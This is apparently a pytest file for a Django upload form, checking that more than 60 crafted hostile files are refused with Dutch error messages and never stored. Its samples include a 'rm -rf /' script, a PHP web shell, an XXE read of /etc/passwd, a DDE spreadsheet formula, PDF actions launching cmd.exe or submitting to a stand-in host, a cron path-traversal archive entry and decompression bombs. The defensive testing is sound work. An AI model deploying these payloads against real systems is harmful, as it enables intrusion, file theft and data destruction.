"""Files made to do harm, sent through the form of a case: none is kept, and each is answered by its sentence."""

import io
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from startblok.process import proofs
from startblok.records.models import Document
from startblok.web.links import step_url
from tests.browse import Browser, words
from tests.process import walk
from tests.uploads import WHOLE, archive, chunk, locked_pdf, pdf, picture, piece, png, rich_pdf, stream
from tests.world import World

UNREADABLE = "Dit bestand is geen leesbare pdf, JPEG of PNG. Kies een ander bestand."
LOCKED = (
    "Deze pdf is beveiligd met een wachtwoord. Bewaar de pdf zonder wachtwoord, of neem een foto van het papier, en "
    "kies dat bestand."
)
ACTS = (
    "In deze pdf zit een programma, een invulformulier of een ander bestand. Open de pdf, kies Afdrukken en dan "
    "“Opslaan als pdf”, en kies dat nieuwe bestand."
)
TWO_IN_ONE = (
    "In dit bestand zit nog een ander bestand verstopt. Neem een nieuwe foto of scan van het papier, en kies die."
)
UNFOLDS = "Dit bestand wordt veel te groot als het opengaat. Neem een gewone foto of scan van het papier, en kies die."
MOVES = "Dit beeld beweegt. Neem een gewone foto of scan van het papier, en kies die."
TOO_BIG = "Dit bestand is groter dan 10 MB. Kies een kleiner bestand."
EMPTY = "Dit bestand is leeg. Kies een ander bestand."
LONG_NAME = "De naam van dit bestand is te lang. Geef het een kortere naam."

SENTENCES = (UNREADABLE, LOCKED, ACTS, TWO_IN_ONE, UNFOLDS, MOVES, TOO_BIG, EMPTY, LONG_NAME)


def moving() -> bytes:
    """A PNG of three frames."""
    frames = [Image.new("L", (4, 4), grey) for grey in (0, 99, 200)]
    file = io.BytesIO()
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    return file.getvalue()


def gif() -> bytes:
    file = io.BytesIO()
    Image.new("P", (4, 4)).save(file, "GIF")
    return file.getvalue()


def tiff() -> bytes:
    file = io.BytesIO()
    Image.new("L", (4, 4)).save(file, "TIFF")
    return file.getvalue()


def bomb(size: int) -> bytes:
    """Zeros that unfold a thousand times, made without holding them."""
    packer, packed = zlib.compressobj(9), []
    for _ in range(size // 1_000_000):
        packed.append(packer.compress(bytes(1_000_000)))
    return b"".join([*packed, packer.flush()])


def acting(action: bytes) -> Callable[[], bytes]:
    return lambda: pdf(b"/OpenAction<</S" + action + b">>")


JPEG_START = picture("JPEG")[:2]

HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # What is no paper at all, whatever it is called.
    "nothing": ("led.pdf", lambda: b"", EMPTY),
    "only zeros": ("led.pdf", lambda: bytes(4096), UNREADABLE),
    "a program of Windows": ("led.pdf", lambda: b"MZ" + bytes(400), UNREADABLE),
    "a program of Linux": ("led.jpg", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), UNREADABLE),
    "a script": ("led.png", lambda: b"#!/bin/sh\nrm -rf /\n", UNREADABLE),
    "a web page": ("led.html", lambda: b"<html><script>alert(1)</script></html>", UNREADABLE),
    "a web page called pdf": ("led.pdf", lambda: b"<!doctype html><script>alert(1)</script>", UNREADABLE),
    "a drawing with a script": (
        "led.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        UNREADABLE,
    ),
    "a drawing that acts when loaded": ("led.png", lambda: b'<svg onload="alert(1)"/>', UNREADABLE),
    "an XML that reads files": (
        "led.pdf",
        lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        UNREADABLE,
    ),
    "a program for a web server": ("led.php", lambda: b"<?php system($_GET['c']); ?>", UNREADABLE),
    "plain words": ("led.pdf", lambda: b"Ik heb geen diploma.", UNREADABLE),
    "a sheet with a formula": ("led.csv", lambda: b"=cmd|'/c calc'!A0", UNREADABLE),
    "an old document with macros": ("led.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), UNREADABLE),
    "PostScript": ("led.pdf", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n", UNREADABLE),
    "a picture that is a GIF": ("led.gif", gif, UNREADABLE),
    "a GIF called PNG": ("led.png", gif, UNREADABLE),
    "a TIFF called JPEG": ("led.jpg", tiff, UNREADABLE),
    "a HEIC called JPEG": ("led.jpg", lambda: bytes.fromhex("00000018") + b"ftypheic" + bytes(60), UNREADABLE),
    "a WebP called PNG": ("led.png", lambda: b"RIFF\x24\0\0\0WEBPVP8 " + bytes(40), UNREADABLE),
    "a packed stream": ("led.pdf", lambda: b"\x1f\x8b\x08" + bytes(60), UNREADABLE),
    # Archives, of which a document is one.
    "an archive": ("led.zip", lambda: archive("a.hta"), TWO_IN_ONE),
    "an archive called pdf": ("led.pdf", lambda: archive("../../etc/cron.d/a"), TWO_IN_ONE),
    "a document": ("led.docx", lambda: archive("word/document.xml"), TWO_IN_ONE),
    "a document with macros": ("led.docm", lambda: archive("word/vbaProject.bin"), TWO_IN_ONE),
    "an archive of 7-Zip": ("led.pdf", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(60), TWO_IN_ONE),
    "an archive of RAR": ("led.png", lambda: b"Rar!\x1a\x07\x01\0" + bytes(60), TWO_IN_ONE),
    # Two files in one.
    "PDF and page": ("led.pdf", lambda: pdf().replace(b"1.4\n", b"1.4\n%<script>alert(1)</script>\n"), TWO_IN_ONE),
    "PDF and page behind it": ("led.pdf", lambda: pdf() + b"<html><script>alert(1)</script>", TWO_IN_ONE),
    "PDF and page far behind": ("led.pdf", lambda: pdf(b"/X(%s)" % (b"x" * 2000)) + b"<html><script>", UNREADABLE),
    "page and PDF behind it": ("led.pdf", lambda: b"<html>" + pdf(), UNREADABLE),
    "empty lines and PDF": ("led.pdf", lambda: b"\r\n\r\n" + pdf(), UNREADABLE),
    "PDF and archive": ("led.pdf", lambda: pdf() + archive(), TWO_IN_ONE),
    "PDF with an archive inside": ("led.pdf", lambda: pdf(b"", stream(b"/X", archive())), TWO_IN_ONE),
    "PDF and program for a web server": ("led.pdf", lambda: pdf().replace(b"1.4\n", b"1.4\n%<?php\n"), TWO_IN_ONE),
    "PNG and archive": ("led.png", lambda: WHOLE + archive(), TWO_IN_ONE),
    "archive and PNG": ("led.png", lambda: archive() + WHOLE, TWO_IN_ONE),
    "PNG and page": ("led.png", lambda: WHOLE + b"<script>alert(1)</script>", TWO_IN_ONE),
    "PNG and PDF": ("led.pdf", lambda: WHOLE + pdf(), TWO_IN_ONE),
    "PNG with a program in its words": (
        "led.png",
        lambda: png(zlib.compress(bytes(20)), before_end=chunk(b"tEXt", b"a\0<?php eval($_GET[0]);")),
        TWO_IN_ONE,
    ),
    "JPEG and archive": ("led.jpg", lambda: picture("JPEG") + archive(), TWO_IN_ONE),
    "JPEG with a program in its comment": ("led.jpg", lambda: picture("JPEG", comment=b"<?php 1 ?>"), TWO_IN_ONE),
    "JPEG with a page in a piece": (
        "led.jpg",
        lambda: JPEG_START + piece(0xE7, b"<html><script>") + picture("JPEG")[2:],
        TWO_IN_ONE,
    ),
    "JPEG and PDF": ("led.jpg", lambda: picture("JPEG") + pdf(), TWO_IN_ONE),
    "GIF and script": ("led.gif", lambda: b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)", UNREADABLE),
    # A PDF that does something.
    "script at opening": ("led.pdf", acting(b"/JavaScript/JS(app.alert(1))"), ACTS),
    "program at opening": ("led.pdf", acting(b"/Launch/F(cmd.exe)"), ACTS),
    "site at opening": ("led.pdf", acting(b"/URI/URI(https://kwaad.example/)"), ACTS),
    "form sent at opening": ("led.pdf", acting(b"/SubmitForm/F(https://kwaad.example/)"), ACTS),
    "script under another spelling": ("led.pdf", acting(b"/Jav#61Script/J#53(1)"), ACTS),
    "script among the names": ("led.pdf", lambda: pdf(b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>", b"<<>>"), ACTS),
    "script at turning a page": ("led.pdf", lambda: pdf(b"", b"<</AA<</O<</S/Named/N/Print>>>>>>"), ACTS),
    "file inside": ("led.pdf", lambda: pdf(b"", stream(b"/X", b"MZ", b"/Type/EmbeddedFile")), ACTS),
    "form of XFA": ("led.pdf", lambda: pdf(b"/AcroForm<</XFA 4 0 R>>", b"(form)"), ACTS),
    "film inside": ("led.pdf", lambda: pdf(b"", b"<</Subtype/RichMedia/RichMediaContent<<>>>>"), ACTS),
    "other PDF at a press": ("led.pdf", lambda: pdf(b"", b"<</Subtype/Link/A<</S/GoToR/F(a.pdf)>>>>"), ACTS),
    "PDF inside opened": ("led.pdf", lambda: pdf(b"", b"<</S/GoToE/T<</R/C>>>>"), ACTS),
    "part that no table lists": (
        "led.pdf",
        lambda: pdf().replace(b"xref\n0", b"9 0 obj<</S/JavaScript/J(1)>>endobj\nxref\n0"),
        ACTS,
    ),
    "locked with a password": ("led.pdf", locked_pdf, LOCKED),
    # What is not whole.
    "half a PDF": ("led.pdf", lambda: rich_pdf()[:300], UNREADABLE),
    "only the head of a PDF": ("led.pdf", lambda: b"%PDF-1.7\n%%EOF", UNREADABLE),
    "PDF without pages": ("led.pdf", lambda: pdf().replace(b"/Type/Page/", b"/Type/Nope/"), UNREADABLE),
    "PDF without end": ("led.pdf", lambda: pdf()[:-7], UNREADABLE),
    "PDF of lists in lists": ("led.pdf", lambda: pdf(b"/X" + b"[" * 20_000 + b"]" * 20_000), UNREADABLE),
    "half a PNG": ("led.png", lambda: picture("PNG")[:400], UNREADABLE),
    "only the head of a PNG": ("led.png", lambda: WHOLE[:33], UNREADABLE),
    "PNG that is not packed": ("led.png", lambda: png(b"not packed"), UNREADABLE),
    "PNG with fewer points than it says": ("led.png", lambda: png(zlib.compress(b"\0" * 9), size=1000), UNREADABLE),
    "half a JPEG": ("led.jpg", lambda: picture("JPEG")[:-200], UNREADABLE),
    "only the head of a JPEG": ("led.jpg", lambda: picture("JPEG")[:40], UNREADABLE),
    "JPEG without a picture": ("led.jpg", lambda: JPEG_START + piece(0xFE, b"words") + b"\xff\xd9", UNREADABLE),
    # What is too much.
    "10 MB and a byte": ("led.pdf", lambda: b"%PDF-" + bytes(10 * 1024 * 1024 - 4), TOO_BIG),
    "PNG of 30 000 by 30 000": ("led.png", lambda: png(zlib.compress(b"\0"), size=30_000), UNFOLDS),
    "PNG of 2 000 million wide": ("led.png", lambda: png(zlib.compress(b"\0"), size=2_000_000_000), UNFOLDS),
    "JPEG of 65 000 by 65 000": (
        "led.jpg",
        lambda: picture("JPEG").replace(b"\0\x1e\0\x28", b"\xfd\xe8\xfd\xe8"),
        UNFOLDS,
    ),
    "PDF that unfolds to 300 MB": ("led.pdf", lambda: pdf(b"", stream(b"/FlateDecode", bomb(300_000_000))), UNFOLDS),
    "PDF that is packed twice": ("led.pdf", lambda: pdf(b"", stream(b"[/Fl/Fl]", bomb(1_000_000))), UNFOLDS),
    "PDF with a picture of 3 600 million points": (
        "led.pdf",
        lambda: pdf(b"", stream(b"/JBIG2Decode", b"x", b"/Subtype/Image/Width 60000/Height 60000")),
        UNFOLDS,
    ),
    "PNG that moves": ("led.png", moving, MOVES),
    "a name of 300 letters": ("x" * 296 + ".pdf", pdf, LONG_NAME),
}


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 60
    assert {said for _, _, said in HOSTILE.values()} == set(SENTENCES)


@pytest.mark.parametrize("said", SENTENCES)
def test_a_hostile_file_is_not_kept_and_the_page_says_why(
    world: World, settings: Any, tmp_path: Path, said: str
) -> None:
    settings.MEDIA_ROOT = tmp_path / "files"
    employer, url = Browser.of(world.users["employer"]), step_url(proofs.add_proof, walk.prepared(world))
    told = {}
    for kind in (kind for kind, (_, _, sentence) in HOSTILE.items() if sentence == said):
        name, make, _ = HOSTILE[kind]
        answer = employer.send(url, file=SimpleUploadedFile(name, make(), "application/pdf"))
        told[kind] = (answer.status_code, [each for each in SENTENCES if each in words(answer)])
    assert told == dict.fromkeys(told, (422, [said]))
    assert Document.objects.count() == 0
    assert list(tmp_path.rglob("*")) == []
